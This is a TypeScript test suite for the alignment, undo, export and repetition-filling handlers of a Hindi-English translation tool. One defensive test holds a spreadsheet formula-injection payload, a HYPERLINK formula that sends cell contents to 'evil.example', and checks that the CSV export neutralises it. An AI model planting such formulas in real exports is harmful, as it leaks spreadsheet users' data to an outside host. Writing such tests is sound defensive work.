import { readFileSync } from 'node:fs';
import path from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import { createHandlers } from '../../services/handlers.ts';
import { createReviewHandlers } from '../../services/review-handlers.ts';
import { trainLexicon } from '../../articles/align/index.ts';
import { createMemoryProject } from '../../services/store/memory-store.ts';
import { APP_ROOT } from '../../services/default-project.ts';
import { sampleMemoryProject } from './sample-project.ts';
import type { ProjectStore } from '../../services/store/project-store.ts';
import { readTmx } from '../../articles/exchange/tmx.ts';
import { readXliff } from '../../articles/exchange/xliff.ts';
import { restoreFormulaCell } from '../../glossary/formats/spreadsheet-cells.ts';

const NOW = '2026-03-01T10:00:00.000Z';
const SAMPLE_000 = '000_a6e2b2736be51a55';
const SAMPLE_002 = '002_0f029a2cb635d9d3';

let store: ProjectStore;
let api: ReturnType<typeof createHandlers>;

const seededStore = (): Promise<ProjectStore> => sampleMemoryProject('/projects/review', 'review', { alignments: true });

beforeEach(async () => {
  store = await seededStore();
  api = createHandlers(store, { now: () => NOW });
});

describe('align.* handlers on the default project samples', () => {
  it('lists the two sample alignments with link and open counts', async () => {
    const list = await api['align.list']({});
    expect(list.map((each) => each.articleId)).toEqual([SAMPLE_000, SAMPLE_002]);
    for (const summary of list) {
      const stored = await api['align.get']({ articleId: summary.articleId });
      expect(summary.links).toBe(stored.links.length);
      expect(summary.open).toBe(stored.links.length);
      expect(summary.accepted).toBe(0);
      expect(summary.title).toBe((await store.getArticle(summary.articleId))?.title);
      expect(stored.undoDepth).toBe(0);
      expect(stored).not.toHaveProperty('undo');
    }
  });

  it('accepts a 2-1 link: the English goes on the first segment, the second is joined to it; undo restores both', async () => {
    const before = await api['align.get']({ articleId: SAMPLE_002 });
    const index = before.links.findIndex((link) => link.hi.length === 2 && link.en.length === 1);
    const link = before.links[index];
    const result = await api['align.edit']({ articleId: SAMPLE_002, op: { type: 'accept', linkIndex: index } });
    expect(result.alignment.links[index].status).toBe('accepted');
    expect(result.alignment.undoDepth).toBe(1);
    expect(result.changedSegments.map((segment) => segment.id)).toEqual(link.hi.map((i) => before.segmentIds[i]));

    const article = await api['article.get']({ id: SAMPLE_002 });
    expect(article.segments[link.hi[0]]).toMatchObject({ target: before.en[link.en[0]], status: 'translated', origin: 'aligned', updatedAt: NOW });
    expect(article.segments[link.hi[1]]).toMatchObject({ target: '', status: 'joined', origin: 'aligned' });
    expect((await api['align.list']({})).find((each) => each.articleId === SAMPLE_002)).toMatchObject({ accepted: 1, open: before.links.length - 1 });

    await api['align.edit']({ articleId: SAMPLE_002, op: { type: 'undo' } });
    const restored = await api['article.get']({ id: SAMPLE_002 });
    expect(restored.segments[link.hi[0]]).toMatchObject({ target: '', status: 'untranslated' });
    expect(restored.segments[link.hi[0]].origin).toBeUndefined();
    expect((await api['align.get']({ articleId: SAMPLE_002 })).undoDepth).toBe(0);
  });

  it('puts an accepted link into the translation memory and takes it out again on undo', async () => {
    const view = await api['align.get']({ articleId: SAMPLE_002 });
    const index = view.links.findIndex((link) => link.hi.length === 1 && link.en.length === 1);
    const link = view.links[index];
    const hindi = view.hi[link.hi[0]];
    const english = view.en[link.en[0]];
    const inMemory = async () => (await api['tm.concordance']({ query: hindi })).some((hit) => hit.source === hindi && hit.target === english);
    expect(await inMemory()).toBe(false);
    await api['align.edit']({ articleId: SAMPLE_002, op: { type: 'accept', linkIndex: index } });
    expect(await inMemory()).toBe(true);
    await api['align.edit']({ articleId: SAMPLE_002, op: { type: 'undo' } });
    expect(await inMemory()).toBe(false);
  });

  it('refuses malformed ops (bad-input) and impossible ones (conflict)', async () => {
    await expect(api['align.edit']({ articleId: SAMPLE_000, op: { type: 'explode', linkIndex: 0 } })).rejects.toMatchObject({ error: { code: 'bad-input' } });
    await expect(api['align.edit']({ articleId: SAMPLE_000, op: { type: 'accept', linkIndex: 99 } })).rejects.toMatchObject({ error: { code: 'bad-input' } });
    await expect(api['align.edit']({ articleId: SAMPLE_000, op: { type: 'mergePrev', linkIndex: 0 } })).rejects.toMatchObject({ error: { code: 'conflict' } });
    await expect(api['align.edit']({ articleId: SAMPLE_000, op: { type: 'undo' } })).rejects.toMatchObject({ error: { code: 'conflict' } });
    await expect(api['align.get']({ articleId: '003_1e3141995383dc93' })).rejects.toMatchObject({ error: { code: 'not-found' } });
  });

  it('aligns pasted English, and a batch reports each article, failures included', async () => {
    const english = readFileSync(path.join(APP_ROOT, 'articles/samples/translations/000_a6e2b2736be51a55.en.txt'), 'utf8');
    const summary = await api['align.run']({ articleId: SAMPLE_000, english, fileName: 'mine.en.txt' });
    expect(summary).toMatchObject({ articleId: SAMPLE_000, translationFile: 'mine.en.txt', alignedAt: NOW, accepted: 0 });
    expect(summary.links).toBeGreaterThan(5);

    const results = await api['align.runBatch']({ items: [
      { articleId: SAMPLE_000, english },
      { articleId: 'no-such-article', english },
    ] });
    expect(results.map((each) => [each.articleId, each.ok])).toEqual([[SAMPLE_000, true], ['no-such-article', false]]);
    expect(results[1]).toMatchObject({ ok: false, error: { code: 'not-found' } });
    await expect(api['align.run']({ articleId: SAMPLE_000, english: '   ' })).rejects.toMatchObject({ error: { code: 'bad-input' } });
  });

  it('aligns with a lexicon learned from confirmed pairs: after accepting sample 002, sample 000\'s headline pairs with its English headline alone', async () => {
    // (With the shipped lexicon alone and today's importer, the headline and the first sentence
    // come out as one 2-2 link; that depends on the importer, so it is not asserted here.)
    await api['align.edit']({ articleId: SAMPLE_002, op: { type: 'acceptAbove', threshold: 0 } });
    const english = readFileSync(path.join(APP_ROOT, 'articles/samples/translations/000_a6e2b2736be51a55.en.txt'), 'utf8');
    await api['align.run']({ articleId: SAMPLE_000, english });
    const after = await api['align.get']({ articleId: SAMPLE_000 });
    expect(after.en[0]).toBe("North Korea: Kim pledges 'full support' for Russia's war in Ukraine");
    expect(after.links.slice(0, 2).map((link) => [link.hi, link.en])).toEqual([[[0], [0]], [[1], [1]]]);
  });

  it('exports accepted pairs as TMX, the article as XLIFF 1.2 and 2.0, and every link as CSV', async () => {
    const view = await api['align.get']({ articleId: SAMPLE_000 });
    await api['align.edit']({ articleId: SAMPLE_000, op: { type: 'accept', linkIndex: 2 } });
    await api['align.edit']({ articleId: SAMPLE_000, op: { type: 'accept', linkIndex: 3 } });

    const tmx = await api['export.tmx']({});
    expect(tmx.fileName).toMatch(/\.tmx$/);
    const { pairs, problems } = readTmx(tmx.content, tmx.fileName);
    expect(problems).toEqual([]);
    expect(pairs.map((pair) => [pair.source, pair.target])).toEqual([2, 3].map((k) => [
      view.links[k].hi.map((i) => view.hi[i]).join(' '),
      view.links[k].en.map((j) => view.en[j]).join(' '),
    ]));

    const xliff = await api['export.xliff']({ articleId: SAMPLE_000, version: '1.2' });
    const read = readXliff(xliff.content, xliff.fileName);
    expect(read.version).toBe('1.2');
    const segmentId = view.segmentIds[view.links[2].hi[0]];
    expect(read.pairs.find((pair) => pair.id === segmentId)?.target).toBe(view.en[view.links[2].en[0]]);
    expect(readXliff((await api['export.xliff']({ articleId: SAMPLE_000, version: '2.0' })).content, 'x.xlf').version).toBe('2.0');

    const csv = await api['export.linksCsv']({});
    const rows = parseCsv(csv.content, { bom: true, columns: true }) as { article: string; status: string; score: string }[];
    const total = (await api['align.list']({})).reduce((sum, each) => sum + each.links, 0);
    expect(rows).toHaveLength(total);
    expect(rows.filter((row) => row.status === 'accepted')).toHaveLength(2);
    expect(rows[0].article).toBe(SAMPLE_000);
  });

  it('export.linksCsv never hands a spreadsheet a formula from an aligned translation (issue 13, item 8)', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?q="&A1,"Read more")';
    const article = (await store.getArticle(SAMPLE_000))!;
    // The first English sentence is the formula; the rest is ordinary text, one sentence per segment.
    const english = [hostile, ...article.segments.slice(1).map((_, index) => `-${index + 5} °C was reported on day ${index + 1}.`)].join('\n');
    await api['align.run']({ articleId: SAMPLE_000, english });
    const csv = await api['export.linksCsv']({});
    const records = parseCsv(csv.content, { bom: true }) as string[][];
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const restored = records.flat().map(restoreFormulaCell);
    expect(restored.some((cell) => cell.startsWith(hostile))).toBe(true);
    expect(restored.some((cell) => /^-\d+ °C was reported/.test(cell))).toBe(true);
  });

  it('refuses edits when the project is read-only', async () => {
    const readOnly = createMemoryProject({ dir: '/projects/ro', name: 'ro', readOnly: true });
    const handlers = createHandlers(readOnly, { now: () => NOW });
    await expect(handlers['align.edit']({ articleId: SAMPLE_000, op: { type: 'undo' } })).rejects.toMatchObject({ error: { code: 'read-only' } });
    await expect(handlers['align.run']({ articleId: SAMPLE_000, english: 'Text.' })).rejects.toMatchObject({ error: { code: 'read-only' } });
  });
});

const SAMPLE_003 = '003_1e3141995383dc93';
// Our own English for seed 003, one line per Hindi segment; segments 1 and 13, and 2 and 14, are the same sentence.
const ENGLISH_003 = [
  'Agreement between Putin and Kim Jong Un: Russia and North Korea will help each other in case of attack',
  'According to Russian state news agencies, Putin said Russia would not rule out developing military-technical cooperation with North Korea.',
  'Kim was quoted as saying: I have no doubt that this will become a driving force accelerating the creation of a new multipolar world.',
  "This is Putin's first visit to Korea in the past 24 years",
  'New Delhi: Russian President Vladimir Putin and North Korean leader Kim Jong Un have signed a new partnership agreement.',
  'Under it, both countries pledge mutual assistance if either of them is attacked.',
  'Both countries face a growing standoff with the West.',
  'That is why the cooperation agreement has been signed.',
  'However, it has not been made clear what kind of assistance the agreement speaks of.',
  'It could also be a military agreement.',
  "This is Putin's first visit to Korea in the past 24 years.",
  'North Korea has long been supplying Moscow with badly needed weapons for the war in Ukraine in exchange for economic aid and technology transfer.',
  "Russia is also believed to be helping North Korea's nuclear programme.",
  'According to Russian state news agencies, Putin said Russia would not rule out developing military-technical cooperation with North Korea.',
  'Kim was quoted as saying: I have no doubt that this will become a driving force accelerating the creation of a new multipolar world.',
  "Russian state media, citing the Kremlin's website, reported that Russia and North Korea also signed agreements on cooperation in healthcare, medical education and science.",
  'Earlier, North Korean leader Kim Jong Un had visited Russia.',
  "All eyes were on the coming together of two of the biggest enemies of the Western countries and America.",
  'If this bloc also gets the support of China, it will be a major cause of concern for America.',
  "Putin arrived in North Korea's capital on the morning of Wednesday, 19 June, where Kim welcomed him.",
  'The two leaders shook hands and embraced.',
  'Putin was presented with a bouquet of red roses.',
].join('\n');

describe('accepted links fill repetitions (seed 003 repeats two sentences)', () => {
  const segmentIds = async () => (await api['article.get']({ id: SAMPLE_003 })).segments.map((segment) => segment.id);
  // Aligns 003 with ENGLISH_003 and returns the index of the 1-1 link on Hindi segment `hindi`.
  const alignAndFind = async (hindi: number) => {
    await api['align.run']({ articleId: SAMPLE_003, english: ENGLISH_003 });
    const view = await api['align.get']({ articleId: SAMPLE_003 });
    const index = view.links.findIndex((link) => link.hi.length === 1 && link.hi[0] === hindi);
    expect(view.links[index]).toMatchObject({ hi: [hindi], en: [hindi] });
    return index;
  };

  it('accepting a link fills the identical segment like a confirmed save, and undo takes the fill back', async () => {
    const ids = await segmentIds();
    const index = await alignAndFind(1);
    const result = await api['align.edit']({ articleId: SAMPLE_003, op: { type: 'accept', linkIndex: index } });
    const english = ENGLISH_003.split('\n')[1];
    expect(result.changedSegments.map((segment) => segment.id)).toEqual([ids[1], ids[13]]);
    const article = await api['article.get']({ id: SAMPLE_003 });
    expect(article.segments[1]).toMatchObject({ target: english, status: 'translated', origin: 'aligned' });
    expect(article.segments[13]).toMatchObject({ target: english, status: 'translated', origin: 'repetition', updatedAt: NOW });
    expect(article.segments[14]).toMatchObject({ target: '', status: 'untranslated' });

    const undone = await api['align.edit']({ articleId: SAMPLE_003, op: { type: 'undo' } });
    expect(undone.changedSegments.map((segment) => segment.id)).toEqual([ids[1], ids[13]]);
    const restored = await api['article.get']({ id: SAMPLE_003 });
    for (const i of [1, 13]) {
      expect(restored.segments[i]).toMatchObject({ target: '', status: 'untranslated' });
      expect(restored.segments[i].origin).toBeUndefined();
    }
  });

  it('acceptAbove fills the repetitions the English leaves out; undo keeps a fill the translator edited since', async () => {
    const ids = await segmentIds();
    const lines = ENGLISH_003.split('\n');
    // An English text without the repeated sentences: segments 13 and 14 get no English of their own.
    await api['align.run']({ articleId: SAMPLE_003, english: lines.filter((_, i) => i !== 13 && i !== 14).join('\n') });
    await api['align.edit']({ articleId: SAMPLE_003, op: { type: 'acceptAbove', threshold: 0 } });
    const filled = (await api['article.get']({ id: SAMPLE_003 })).segments;
    expect(filled[13]).toMatchObject({ target: lines[1], status: 'translated', origin: 'repetition' });
    expect(filled[14]).toMatchObject({ target: lines[2], status: 'translated', origin: 'repetition' });

    await api['article.saveSegment']({ articleId: SAMPLE_003, segmentId: ids[14], target: 'My own wording.', status: 'translated' });
    const undone = await api['align.edit']({ articleId: SAMPLE_003, op: { type: 'undo' } });
    expect(undone.changedSegments.map((segment) => segment.id)).toContain(ids[13]);
    expect(undone.changedSegments.map((segment) => segment.id)).not.toContain(ids[14]);
    const after = await api['article.get']({ id: SAMPLE_003 });
    expect(after.segments[13]).toMatchObject({ target: '', status: 'untranslated' });
    expect(after.segments[14]).toMatchObject({ target: 'My own wording.', status: 'translated', origin: 'manual' });
    expect(after.segments.filter((segment) => segment.status !== 'untranslated').map((segment) => segment.id)).toEqual([ids[14]]);
  });

  it('fills repetitions in other articles too', async () => {
    // Put seed 003's sentence into sample 002 as an untranslated segment, then accept in 003.
    const ids = await segmentIds();
    const other = await store.getArticle(SAMPLE_002);
    const source = (await store.getArticle(SAMPLE_003))!.segments[1].source;
    await store.saveArticle({ ...other!, segments: other!.segments.with(0, { ...other!.segments[0], source, target: '', status: 'untranslated' }) });
    const index = await alignAndFind(1);
    await api['align.edit']({ articleId: SAMPLE_003, op: { type: 'accept', linkIndex: index } });
    const english = ENGLISH_003.split('\n')[1];
    expect((await store.getArticle(SAMPLE_002))!.segments[0]).toMatchObject({ target: english, origin: 'repetition', status: 'translated' });
    await api['align.edit']({ articleId: SAMPLE_003, op: { type: 'undo' } });
    expect((await store.getArticle(SAMPLE_002))!.segments[0]).toMatchObject({ target: '', status: 'untranslated' });
    expect((await store.getArticle(SAMPLE_003))!.segments.find((segment) => segment.id === ids[13])).toMatchObject({ target: '' });
  });
});

describe('align.run trains the learned lexicon only when the confirmed pairs change', () => {
  it('keeps the lexicon across saves that leave the pairs as they are, and retrains when a pair changes', async () => {
    let trainings = 0;
    const review = createReviewHandlers(store, {
      now: () => NOW,
      trainLexicon: (pairs, options) => {
        trainings++;
        return trainLexicon(pairs, options);
      },
    });
    await api['align.edit']({ articleId: SAMPLE_002, op: { type: 'acceptAbove', threshold: 0 } });
    const english = readFileSync(path.join(APP_ROOT, 'articles/samples/translations/000_a6e2b2736be51a55.en.txt'), 'utf8');
    const align = () => review['align.run']({ articleId: SAMPLE_000, english });
    await align();
    await align();
    expect(trainings).toBe(1);

    // Saves at a later time that change no confirmed pair: a draft elsewhere, a confirmed pair
    // moved on to reviewed with the same text, an unlink.
    const later = createHandlers(store, { now: () => '2026-03-02T10:00:00.000Z' });
    const sample000 = await later['article.get']({ id: SAMPLE_000 });
    await later['article.saveSegment']({ articleId: SAMPLE_000, segmentId: sample000.segments[5].id, target: 'A draft.' });
    const confirmed = (await later['article.get']({ id: SAMPLE_002 })).segments.find((segment) => segment.status === 'translated' && segment.target.trim());
    if (!confirmed) throw new Error('acceptAbove confirmed no segment of sample 002');
    await later['article.saveSegment']({ articleId: SAMPLE_002, segmentId: confirmed.id, target: confirmed.target, status: 'reviewed' });
    await later['segment.unlink']({ articleId: SAMPLE_002, segmentId: confirmed.id, unlinked: true });
    await align();
    expect(trainings).toBe(1);

    const evenLater = createHandlers(store, { now: () => '2026-03-03T10:00:00.000Z' });
    await evenLater['article.saveSegment']({ articleId: SAMPLE_002, segmentId: confirmed.id, target: `${confirmed.target} (edited)` });
    await align();
    expect(trainings).toBe(2);
  });
});
